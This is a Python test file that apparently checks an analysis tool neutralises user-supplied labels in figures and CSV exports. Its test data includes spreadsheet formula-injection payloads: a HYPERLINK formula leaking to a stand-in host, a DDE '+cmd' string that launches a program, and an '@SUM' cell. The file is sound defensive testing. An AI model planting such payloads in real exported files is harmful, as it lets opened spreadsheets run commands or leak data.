"""Issue 32, the text sinks: a value a user wrote (an env label, a model or module name) reaches a
figure, a CSV cell and a console line as text that sink takes literally."""

from __future__ import annotations

import pandas as pd

from analysis import core, figures
from tests.test_analysis_figure_cache import vendor
from tests.test_analysis_join import train

MATH = "$\\foo{$"


def _runs(label: str) -> pd.DataFrame:
    rows = []
    for env in (label, "b"):
        for batch in (8, 16):
            thr = 100.0 * batch / 8
            rows.append(
                train(
                    f"{env}{batch}",
                    env,
                    "GPU-x",
                    batch,
                    "fp32",
                    thr,
                    achieved=thr * 1e10,
                    intensity=10.0 * batch,
                    model=f"m{MATH}",
                )
            )
    return pd.DataFrame(rows)


def test_mathtext_in_an_env_label_and_a_model_is_drawn_as_written(tmp_path):
    """main: `ParseFatalException: Unknown symbol: \\foo` out of every analysis of the store."""
    jobs = figures.plan(core.build(_runs(MATH), vendor), tmp_path / "figures")
    drawn = figures.render(jobs, 1)
    assert len(drawn) >= 4
    for _, _, path in drawn:
        assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n", path


FORMULA = '=HYPERLINK("http://x.example/?leak=1";"click")'


def test_formula_cells_from_labels_and_module_names_stay_text(tmp_path):
    """main: summary.csv and breakdown_layers.csv carried `=HYPERLINK(...)` cells (formula injection
    when opened in a spreadsheet)."""
    import csv

    from analysis import breakdown, report
    from common.fmt import csv_cell

    analysis = core.build(_runs(FORMULA), vendor)
    paths = report.write_tables(analysis, tmp_path / "out")
    layers = pd.DataFrame(
        {"run_id": ["r1", "r2"], "module": ["@SUM(A1:A9)", "layer1.0"], "time_ms": [-1.5, 2.0]}
    )
    b = breakdown.Breakdowns(layers.iloc[:0], layers, layers.iloc[:0], [])
    b = b._replace(runs=pd.DataFrame({"run_id": ["r1"], "env_label": ["+cmd|' /C calc'!A0"]}))
    paths += breakdown.write_files(b, tmp_path / "out")
    cells = [c for p in paths if p.suffix == ".csv" for row in csv.reader(p.open()) for c in row]
    assert any(FORMULA in c for c in cells) and "'@SUM(A1:A9)" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert "-1.5" in cells  # numbers stay numbers
    assert csv_cell("-2e3") == "-2e3" and csv_cell("-x") == "'-x" and csv_cell(3.0) == 3.0
